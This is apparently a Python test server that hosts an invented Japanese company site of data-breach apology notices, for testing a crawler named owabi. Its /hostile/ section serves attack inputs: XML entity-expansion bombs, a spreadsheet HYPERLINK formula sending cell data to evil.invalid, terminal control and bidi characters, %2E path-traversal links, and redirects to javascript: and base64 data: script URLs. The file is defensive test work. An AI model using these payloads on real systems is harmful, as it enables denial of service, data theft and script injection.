#!/usr/bin/env python3
"""A small invented company site for the ingest tests (python3 stdlib only).

    python3 server.py LOGFILE [--bulk N] [--big-robots MB]

Listens on 127.0.0.1 on an ephemeral port and prints "PORT\n" on stdout once
ready.  Every request is logged to LOGFILE as one JSON line:
  {"start": t0, "end": t1, "path": ..., "inm": If-None-Match, "ims":
   If-Modified-Since, "ua": User-Agent, "status": code}
with time.time() stamps taken on the server: the tests judge politeness on
them.  Paths under /_ctl/ are controls and not logged:
  /_ctl/flip?path=P   switch page P to its revised text (new ETag/Last-Modified)
  /_ctl/bump          give every /bulk/ notice a new text (a new revision)

The site: robots.txt (a group for owabi disallowing /members/), an index page
/news/, an RSS 1.0 feed /feed.rdf, an Atom feed /atom.xml, a sitemap index
/sitemap.xml -> /sitemap-press.xml, four notices, non-notice pages, and
/bulk/ listing N generated notices for the crash test, and /busy/ that always
answers 429 with Retry-After: 1.  Every page has an
ETag and a Last-Modified and answers 304 to a matching If-None-Match (or,
without one, to an If-Modified-Since not older than the page).
/hostile/ holds what a hostile site serves (see HOSTILE below): feeds whose
DTD expands to gigabytes, a title that is a spreadsheet formula, control
characters, a robots.txt escape through "%2E", gzipped sitemaps, redirects
to javascript: and data:, and
/hostile/trickle (one byte a second) and /hostile/sleep?s=N (answers after
N seconds).  With --big-robots MB, robots.txt is an allow-all group for
owabi followed by MB megabytes of other rules, the last of them
disallowing /news/ for owabi past the first 512 KiB.
All companies, people and numbers are invented."""
import email.utils
import gzip
import hashlib
import html as htmlmod
import json
import sys
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

LOCK = threading.Lock()
BOOT = int(time.time()) - 86400


def html(title, body):
    return ('<!DOCTYPE html>\n<html lang="ja"><head><meta charset="utf-8"><title>%s</title></head>\n'
            '<body><header><nav><a href="/">トップ</a> <a href="/company/about.html">会社概要</a></nav></header>\n'
            '<main><h1>%s</h1>\n%s\n</main><footer>Copyright 2025</footer></body></html>\n'
            % (title, title, body))


NOTICE_A = html("不正アクセスによる個人情報漏えいに関するお詫び", """
<p>2025年3月12日</p>
<p>株式会社みなと物産<br>代表取締役 港川一郎</p>
<p>このたび、当社が運営する通販サイト「みなとマルシェ」が第三者による不正アクセスを受け、
お客様の個人情報1,284件が漏えいした可能性があることが判明いたしました。</p>
<p>2025年2月20日、外部機関からの指摘により本件が判明しました。</p>
<p>漏えいした可能性のある情報：氏名、住所、電話番号、メールアドレス</p>
<p>お客様には多大なるご迷惑とご心配をおかけしましたことを、深くお詫び申し上げます。</p>""")

NOTICE_A2 = html("【第2報】不正アクセスによる個人情報漏えいに関するお詫び", """
<p>2025年3月26日</p>
<p>株式会社みなと物産<br>代表取締役 港川一郎</p>
<p>2025年3月12日にお知らせいたしました、通販サイト「みなとマルシェ」への不正アクセスについて、
調査の結果、個人情報が漏えいした可能性のあるお客様は1,302件であることが確定いたしました。</p>
<p>2025年2月20日、外部機関からの指摘により本件が判明しました。</p>
<p>漏えいした可能性のある情報：氏名、住所、電話番号、メールアドレス、生年月日</p>
<p>お客様には多大なるご迷惑とご心配をおかけしましたことを、深くお詫び申し上げます。</p>""")

NOTICE_B = html("ランサムウェア被害による情報流出の可能性に関するお知らせ", """
<p>2025年1月28日</p>
<p>有限会社さくら精機</p>
<p>当社のファイルサーバーがランサムウェアに感染し、データが暗号化される被害を受けました。
調査の結果、従業員および取引先ご担当者様約350名の氏名とメールアドレスが外部に流出した可能性があることが判明しました。</p>
<p>関係者の皆様には多大なるご迷惑とご心配をおかけしておりますことを、心よりお詫び申し上げます。</p>""")

NOTICE_C = html("メール誤送信による個人情報流出についてのお詫び", """
<p>2024年12月5日</p>
<p>一般社団法人あおば教育振興会</p>
<p>2024年12月3日、当会より会員様へ研修のご案内メールを送信した際、宛先をBCCではなくTOに設定したため、
会員様87名のメールアドレスが他の受信者に表示される事態が発生いたしました。</p>
<p>会員の皆様にご迷惑とご心配をおかけしましたことを深くお詫び申し上げます。</p>""")

NOTICE_D = html("当社ECサイトへの不正アクセスによるクレジットカード情報漏えいに関するお詫びとお知らせ", """
<p>2024年11月18日</p>
<p>株式会社ひばりネットサービス</p>
<p>このたび、当社が運営する「ひばりストア」におきまして、第三者による不正アクセスを受け、
お客様のクレジットカード情報2,016件が漏えいした可能性があることが判明いたしました。</p>
<p>漏えいした可能性のある情報：カード名義人名、カード番号、有効期限、セキュリティコード</p>
<p>2024年8月2日から2024年10月9日までの期間に当サイトでカード決済をされたお客様が対象です。</p>
<p>お客様には多大なるご迷惑とご心配をおかけしましたことを、深くお詫び申し上げます。</p>""")

NEWS_PRODUCT = html("新商品発売のお知らせ", """
<p>2025年2月20日</p><p>株式会社みなと物産</p>
<p>春の新商品「みなと特製だし」を3月1日より発売いたします。全国の取扱店でお求めいただけます。</p>""")
SUMMER = html("夏季休業のお知らせ", """
<p>2025年7月1日</p><p>有限会社さくら精機</p>
<p>誠に勝手ながら、8月13日から8月16日まで夏季休業とさせていただきます。</p>""")
PRESS_E = html("決算説明会開催のお知らせ", """
<p>2025年4月10日</p><p>株式会社ひばりネットサービス</p>
<p>2025年5月20日に決算説明会を開催いたします。</p>""")
EXPO = html("展示会出展のお知らせ", """
<p>2025年5月8日</p><p>一般社団法人あおば教育振興会</p>
<p>教育フェア2025に出展いたします。ぜひお立ち寄りください。</p>""")
ABOUT = html("会社概要", "<p>株式会社みなと物産は港町の食品会社です。</p>")
MEMBERS = html("会員様へのお詫び", "<p>会員限定ページです。不正アクセスについてのお詫び。</p>")

INDEX = html("ニュース一覧", """
<ul>
<li>2025.03.12 <a href="2025/0312-owabi.html">不正アクセスによる個人情報漏えいに関するお詫び</a></li>
<li>2025.02.20 <a href="/news/2025/0220.html#top">新商品発売のお知らせ</a></li>
<li><a href="/company/about.html">会社概要</a></li>
<li><a href="/members/notice-2025.html">会員様へのお詫び</a></li>
<li><a href="http://other.invalid/owabi.html">他社のお詫び</a></li>
<li><a href="mailto:info@example.invalid">お問い合わせ</a> <a href="javascript:void(0)">印刷</a></li>
</ul>""")

RDF = """<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
 <channel rdf:about="{base}/feed.rdf"><title>さくら精機 お知らせ</title><link>{base}/</link>
  <items><rdf:Seq><rdf:li rdf:resource="{base}/info/2025/security-incident.html"/></rdf:Seq></items>
 </channel>
 <item rdf:about="{base}/info/2025/security-incident.html">
  <title>ランサムウェア被害による情報流出の可能性に関するお知らせ</title>
  <link>{base}/info/2025/security-incident.html</link><dc:date>2025-01-28</dc:date></item>
 <item rdf:about="{base}/info/2025/summer.html"><title>夏季休業のお知らせ</title>
  <link>{base}/info/2025/summer.html</link></item>
 <item rdf:about="{base}/info/2025/product.html"><title>新製品カタログ公開</title>
  <link>{base}/info/2025/product.html</link></item>
</rdf:RDF>
"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
 <title>あおば教育振興会 新着情報</title><id>urn:x-aoba:feed</id><updated>2025-05-08T00:00:00Z</updated>
 <entry><title>メール誤送信による個人情報流出についてのお詫び</title><id>urn:x-aoba:1</id>
  <link rel="alternate" href="/topics/1205.html"/><updated>2024-12-05T00:00:00Z</updated></entry>
 <entry><title>展示会出展のお知らせ</title><id>urn:x-aoba:2</id>
  <link href="/topics/expo.html"/><updated>2025-05-08T00:00:00Z</updated></entry>
 <entry><title>会員向け資料</title><id>urn:x-aoba:3</id>
  <link rel="alternate" href="/members/docs.html"/><updated>2025-05-08T00:00:00Z</updated></entry>
</feed>
"""

SITEMAP_INDEX = """<?xml version="1.0" encoding="UTF-8"?>
<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
 <sitemap><loc>{base}/sitemap-press.xml</loc></sitemap>
</sitemapindex>
"""
SITEMAP_PRESS = """<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
 <url><loc>{base}/press/2024/1118.html</loc><lastmod>2024-11-18</lastmod></url>
 <url><loc>{base}/press/2025/0410.html</loc></url>
 <url><loc>{base}/members/secret.html</loc></url>
 <url><loc>http://other.invalid/press.html</loc></url>
</urlset>
"""

ROBOTS = """# invented test site
User-agent: *
Disallow: /

User-agent: owabi
Disallow: /members/
Allow: /

User-agent: otherbot
Allow: /members/
"""

# ---- /hostile/ -------------------------------------------------------------

def hostile_notice(title, org, count):
    return html(htmlmod.escape(title, quote=False), """
<p>2025年4月2日</p>
<p>%s</p>
<p>当社の配送状況照会サイトが第三者による不正アクセスを受け、お客様の氏名、住所、電話番号%d件が漏えいした可能性があることが判明いたしました。</p>
<p>お客様には多大なるご迷惑とご心配をおかけしましたことを、深くお詫び申し上げます。</p>""" % (htmlmod.escape(org), count))


# One entity of 200 KB used 5,000 times: a gigabyte when read whole.
ENTITY_BIG = "A" * 200000
ENTITY_REFS = "&big;" * 5000
ENTITY_RSS = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE rss [<!ENTITY big "%s">]>
<rss version="2.0"><channel><title>かもめ運輸 お知らせ</title>
 <item><title>不正アクセスによる個人情報漏えいに関するお詫び %s</title>
  <link>{base}/hostile/notice.html</link></item>
</channel></rss>
""" % (ENTITY_BIG, ENTITY_REFS)
ENTITY_ATOM = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE feed [<!ENTITY big "%s">]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>かもめ運輸</title>
 <entry><title>お詫び</title><link href="{base}/hostile/notice.html%s"/></entry>
 <entry><title>不正アクセスに関するお詫び</title><link href="{base}/hostile/notice.html"/></entry>
</feed>
""" % (ENTITY_BIG, ENTITY_REFS)
ENTITY_SITEMAP = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE urlset [<!ENTITY big "%s">]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
 <url><loc>{base}/hostile/notice.html%s</loc></url>
 <url><loc>{base}/hostile/notice.html</loc></url>
</urlset>
""" % (ENTITY_BIG, ENTITY_REFS)

GZ_SITEMAP = """<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
 <url><loc>{base}/hostile/gz-notice.html</loc></url>
</urlset>
"""

DOTS_INDEX = html("お知らせ一覧", """
<ul><li><a href="/%2E/members/dot.html">不正アクセスに関するお詫び</a></li>
<li><a href="/hostile/%2E%2E/members/dotdot.html">会員情報流出のお詫び</a></li></ul>""")

HOSTILE = {
    # path: (content type, text; "{base}" is the site's URL)
    "/hostile/notice.html": ("text/html; charset=utf-8",
                             hostile_notice("不正アクセスによる個人情報漏えいに関するお詫び",
                                            "株式会社かもめ運輸", 412)),
    "/hostile/entity.rss": ("application/rss+xml", ENTITY_RSS),
    "/hostile/entity.atom": ("application/atom+xml", ENTITY_ATOM),
    "/hostile/entity-sitemap.xml": ("application/xml", ENTITY_SITEMAP),
    "/hostile/formula.html": ("text/html; charset=utf-8", hostile_notice(
        '=HYPERLINK("http://evil.invalid/?"&A1,"不正アクセスによる個人情報漏えいに関するお詫び")',
        "株式会社つばめ商事", 58)),
    # U+202E (right-to-left override) and C1 controls (CSI U+009B, OSC
    # U+009D) in the title, raw and as character references, and in the name
    "/hostile/controls.html": ("text/html; charset=utf-8", hostile_notice(
        "不正アクセス\u202eによる\u009b31m個人情報漏えいに関する\u009dお詫び",
        "株式会社\u202eひばり\u2066運輸", 77).replace("お詫び</h1>", "&#x202E;&#155;お詫び</h1>")),
    "/hostile/dots/": ("text/html; charset=utf-8", DOTS_INDEX),
    "/hostile/sitemap.xml.gz": ("application/gzip", GZ_SITEMAP),
    "/hostile/sitemap-x.xml.gz": ("application/x-gzip", GZ_SITEMAP),
    "/hostile/gz-notice.html": ("text/html; charset=utf-8", hostile_notice(
        "ランサムウェア被害に関するお詫び", "株式会社しらさぎ倉庫", 903)),
}


# Redirects to schemes owabi must refuse, answered in do_GET.
HOSTILE_REDIRECTS = {
    "/hostile/to-js": "javascript:alert(document.domain)",
    "/hostile/to-data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
}


def big_robots(mb):
    """An allow-all group for owabi, then mb MB of another agent's rules;
    past the first 512 KiB a group for owabi disallows /news/ (which a
    parser that reads only the first 512 KiB, as RFC 9309 allows, never
    sees)."""
    head = "User-agent: owabi\nAllow: /\n\nUser-agent: otherbot\n"
    lines = []
    size = len(head)
    i = 0
    while size < mb * 1024 * 1024:
        line = "Disallow: /archive/%07d/\n" % i
        lines.append(line)
        size += len(line)
        i += 1
    return (head + "".join(lines) + "\nUser-agent: owabi\nDisallow: /news/\n").encode("ascii")


ORGS = ["あさひ", "いずみ", "うみべ", "えびす", "おおとり", "かえで", "きりん", "くすのき", "けやき", "こだま"]
KINDS = ["商事", "食品", "電機", "工業", "物流"]


def bulk_notice(i, version=0):
    org = "株式会社%s%s" % (ORGS[i % len(ORGS)], KINDS[i // len(ORGS) % len(KINDS)])
    updated = "<p>（2025年6月%d日更新）</p>" % version if version else ""
    return html("不正アクセスによる個人情報漏えいに関するお詫び（%d）" % i, updated + """
<p>2025年%d月%d日</p><p>%s</p>
<p>当社ウェブサイトが第三者による不正アクセスを受け、お客様の個人情報%d件が漏えいした可能性があることが判明いたしました。</p>
<p>漏えいした可能性のある情報：氏名、メールアドレス</p>
<p>お客様には多大なるご迷惑とご心配をおかけしましたことを深くお詫び申し上げます。</p>"""
                % (1 + i % 12, 1 + i % 28, org, 100 + 37 * i))


class Site:
    def __init__(self, bulk, big_robots_mb=0):
        self.bulk = bulk
        self.big_robots = big_robots_mb
        self.version = 0    # of the bulk notices: /_ctl/bump raises it
        self.pages = {}     # path -> [content-type, body bytes, mtime]
        self.revised = {"/news/2025/0312-owabi.html": NOTICE_A2}

    def build(self, base):
        def put(path, body, ctype="text/html; charset=utf-8", enc="utf-8"):
            self.pages[path] = [ctype, body.encode(enc), BOOT]
        put("/robots.txt", ROBOTS, "text/plain")
        put("/news/", INDEX)
        put("/news/2025/0312-owabi.html", NOTICE_A)
        put("/news/2025/0220.html", NEWS_PRODUCT)
        put("/company/about.html", ABOUT)
        put("/members/notice-2025.html", MEMBERS)
        put("/members/docs.html", MEMBERS)
        put("/members/secret.html", MEMBERS)
        put("/feed.rdf", RDF.format(base=base), "application/rdf+xml")
        put("/info/2025/security-incident.html", NOTICE_B)
        put("/info/2025/summer.html", SUMMER)
        put("/info/2025/product.html", ABOUT)
        put("/atom.xml", ATOM, "application/atom+xml")
        put("/topics/1205.html", NOTICE_C.replace('charset="utf-8"', 'charset="Shift_JIS"'),
            "text/html; charset=Shift_JIS", "cp932")
        put("/topics/expo.html", EXPO)
        put("/sitemap.xml", SITEMAP_INDEX.format(base=base), "application/xml")
        put("/sitemap-press.xml", SITEMAP_PRESS.format(base=base), "application/xml")
        put("/press/2024/1118.html", NOTICE_D)
        put("/press/2025/0410.html", PRESS_E)
        links = "\n".join('<li><a href="n%02d.html">不正アクセスに関するお詫び（%d）</a></li>' % (i, i)
                          for i in range(self.bulk))
        put("/bulk/", html("お知らせ一覧", "<ul>%s</ul>" % links))
        for i in range(self.bulk):
            put("/bulk/n%02d.html" % i, bulk_notice(i))
        for path, (ctype, body) in HOSTILE.items():
            body = body.replace("{base}", base).encode("utf-8")
            if path.endswith(".gz"):
                body = gzip.compress(body, mtime=0)
            self.pages[path] = [ctype, body, BOOT]
        if self.big_robots:
            self.pages["/robots.txt"][1] = big_robots(self.big_robots)


class Handler(BaseHTTPRequestHandler):
    server_version = "owabi-test/1"

    def log_message(self, *a):
        pass

    def handle(self):
        # A client killed mid-response (the crash test does that) is expected.
        try:
            super().handle()
        except (BrokenPipeError, ConnectionResetError):
            pass

    def do_GET(self):
        start = time.time()
        url = urllib.parse.urlsplit(self.path)
        site = self.server.site
        if url.path.startswith("/_ctl/"):
            q = urllib.parse.parse_qs(url.query)
            p = q.get("path", [""])[0]
            with LOCK:
                if url.path == "/_ctl/flip" and p in site.revised and p in site.pages:
                    site.pages[p][1] = site.revised[p].encode("utf-8")
                    site.pages[p][2] += 3600
                    code = 200
                elif url.path == "/_ctl/bump":
                    site.version += 1
                    for i in range(site.bulk):
                        page = site.pages["/bulk/n%02d.html" % i]
                        page[1] = bulk_notice(i, site.version).encode("utf-8")
                        page[2] += 3600
                    code = 200
                else:
                    code = 404
            self.send_response(code)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if url.path == "/hostile/trickle":
            self.trickle(start)
            return
        if url.path == "/hostile/sleep":
            time.sleep(float(urllib.parse.parse_qs(url.query).get("s", ["1"])[0]))
        with LOCK:
            page = site.pages.get(url.path)
            page = list(page) if page else None
            if url.path == "/hostile/sleep":
                page = list(site.pages["/news/2025/0220.html"])
        inm = self.headers.get("If-None-Match")
        ims = self.headers.get("If-Modified-Since")
        if url.path.startswith("/bulk/n"):
            time.sleep(0.01)      # a page takes a moment, so kills land mid-run
        if url.path == "/busy/":
            status, body, hdrs = 429, b"slow down\n", {"Content-Type": "text/plain", "Retry-After": "1"}
        elif url.path in HOSTILE_REDIRECTS:
            status, body, hdrs = 302, b"", {"Location": HOSTILE_REDIRECTS[url.path]}
        elif page is None:
            status, body, hdrs = 404, b"not found\n", {"Content-Type": "text/plain"}
        else:
            ctype, body, mtime = page
            etag = '"%s"' % hashlib.sha256(body).hexdigest()[:20]
            lm = email.utils.formatdate(mtime, usegmt=True)
            hdrs = {"Content-Type": ctype, "ETag": etag, "Last-Modified": lm}
            fresh = False
            if inm is not None:
                fresh = etag in [t.strip() for t in inm.split(",")] or inm.strip() == "*"
            elif ims:
                try:
                    fresh = email.utils.parsedate_to_datetime(ims).timestamp() >= mtime
                except (TypeError, ValueError):
                    fresh = False
            status = 304 if fresh else 200
            if fresh:
                body = b""
        self.send_response(status)
        for k, v in hdrs.items():
            self.send_header(k, v)
        if status != 304:
            self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if status != 304:
            self.wfile.write(body)
        self.log_request_done(start, status, inm, ims)

    def log_request_done(self, start, status, inm=None, ims=None):
        rec = {"start": start, "end": time.time(), "path": self.path, "inm": inm, "ims": ims,
               "ua": self.headers.get("User-Agent"), "status": status}
        with LOCK:
            with open(self.server.logfile, "a", encoding="utf-8") as f:
                f.write(json.dumps(rec, ensure_ascii=False) + "\n")

    def trickle(self, start):
        """One byte a second for two minutes: never a stall, never done."""
        self.log_request_done(start, 200)     # logged first: it may never end
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", "120")
        self.end_headers()
        for _ in range(120):
            self.wfile.write(b".")
            self.wfile.flush()
            time.sleep(1)


def main():
    logfile = sys.argv[1]
    bulk, big = 40, 0
    args = sys.argv[2:]
    while args:
        if args[0] == "--bulk":
            bulk = int(args[1])
        elif args[0] == "--big-robots":
            big = int(args[1])
        args = args[2:]
    srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    srv.daemon_threads = True
    srv.logfile = logfile
    srv.site = Site(bulk, big)
    srv.site.build("http://127.0.0.1:%d" % srv.server_address[1])
    print(srv.server_address[1], flush=True)
    # Stops by itself after 10 minutes, whatever happens to the test.
    threading.Timer(600, srv.shutdown).start()
    srv.serve_forever()


if __name__ == "__main__":
    main()
